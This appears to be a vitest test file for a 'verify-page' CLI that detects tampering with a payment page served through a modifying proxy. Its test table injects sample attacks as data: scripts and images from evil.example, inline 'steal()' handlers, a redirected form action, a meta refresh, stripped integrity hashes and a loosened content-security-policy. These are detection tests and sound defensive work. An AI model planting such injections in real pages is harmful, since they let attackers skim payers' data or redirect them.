import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { main } from '../../src/cli/main.ts';
import { LINK_PROFILE, openLink } from '../support/pay-page-client.ts';
import { RunningApp } from '../support/running-app.ts';

/** Goal: a change on the way to the payer is noticed. Method: the product behind a proxy that changes its answers. */
interface Passing {
  readonly path: string;
  readonly headers: Map<string, string>;
  body: string;
}

let app: RunningApp;
let proxy: Server;
let change: (passing: Passing) => void = () => undefined;
let base = '';

beforeAll(async () => {
  app = await RunningApp.start({}, {}, [LINK_PROFILE]);
  proxy = createServer((request, response) => {
    void (async () => {
      const answer = await fetch(`${app.app.url}${request.url}`);
      const headers = new Map([...answer.headers].filter(([name]) => name !== 'content-length'));
      const passing = { path: request.url ?? '', headers, body: await answer.text() };
      change(passing);
      response.writeHead(answer.status, Object.fromEntries(headers));
      response.end(passing.body);
    })();
  });
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
});
afterAll(async () => {
  proxy.closeAllConnections();
  proxy.close();
  await app.stop();
});
afterEach(() => {
  change = () => undefined;
  vi.restoreAllMocks();
});

async function verify(...args: string[]) {
  const lines: string[] = [];
  vi.spyOn(console, 'log').mockImplementation((line: string) => void lines.push(line));
  vi.spyOn(console, 'error').mockImplementation((line: string) => void lines.push(line));
  const code = await main(['verify-page', ...args]);
  return { code, text: lines.join('\n') };
}

const livePath = async (): Promise<string> => new URL((await openLink(app)).url).pathname;

describe('tonewall verify-page', () => {
  it('finds the page as shipped, whether the link works or not, and opens nothing', async () => {
    const link = await openLink(app);
    const path = new URL(link.url).pathname;
    expect(await verify(base + path)).toEqual({ code: 0, text: 'as shipped' });
    expect(await verify(`${base}/pay/check`)).toEqual({ code: 0, text: 'as shipped' });
    expect((await app.call('GET', `/v1/payments/${link.id}`)).body).toMatchObject({ state: 'connecting' });
  });

  const inPage = (edit: (body: string) => string) => (passing: Passing) => {
    if (!passing.path.includes('assets')) passing.body = edit(passing.body);
  };
  it.each<[string, (passing: Passing) => void, RegExp]>([
    [
      'a foreign script',
      inPage((body) => body.replace('</head>', '<script src="https://evil.example/s.js"></script></head>')),
      /evil\.example.*not in the inventory/,
    ],
    [
      'an inline script',
      inPage((body) => body.replace('</body>', '<script>steal()</script></body>')),
      /inline script/,
    ],
    [
      'an event handler',
      inPage((body) => body.replace('<button ', '<button onclick="steal()" ')),
      /inline event/,
    ],
    [
      'a form that leads away',
      inPage((body) => body.replace('action="?lang', 'action="//evil.example?lang')),
      /form/,
    ],
    [
      'a picture that tells',
      inPage((body) => body.replace('</main>', '<img src="//evil.example/p"></main>')),
      /<img/,
    ],
    [
      'a page that leads away by itself',
      inPage((body) =>
        body.replace('<title>', '<meta http-equiv="refresh" content="0;url=//evil.example"><title>'),
      ),
      /<meta http-equiv/,
    ],
    [
      'a script without its hash',
      inPage((body) => body.replace(/(<script[^>]*) integrity="[^"]*"/, '$1')),
      /not in the inventory[\s\S]*is missing/,
    ],
    [
      'a policy that allows more',
      ({ headers }) => headers.set('content-security-policy', "script-src 'self' https://evil.example"),
      /header content-security-policy: script-src/,
    ],
    ['a missing header', ({ headers }) => void headers.delete('x-frame-options'), /x-frame-options: missing/],
    ['a cookie', ({ headers }) => headers.set('set-cookie', 'a=b'), /header set-cookie/],
    [
      'a changed script',
      (passing) => {
        if (passing.path.endsWith('/checksums.ts')) passing.body += 'steal();';
      },
      /checksums\.ts: sha256-.*, expected sha256-/,
    ],
  ])('notices %s', async (_what, edit, line) => {
    change = edit;
    const { code, text } = await verify(base + (await livePath()));
    expect(code).toBe(3);
    expect(text).toMatch(line);
  });

  it('says what is wrong with what it was given', async () => {
    expect(await verify()).toMatchObject({ code: 2 });
    expect(await verify('pay.example')).toMatchObject({ code: 2 });
    const gone = await verify('http://127.0.0.1:1/pay/x');
    expect(gone).toEqual({ code: 2, text: 'tonewall: verify-page: no answer from http://127.0.0.1:1' });
  });
});
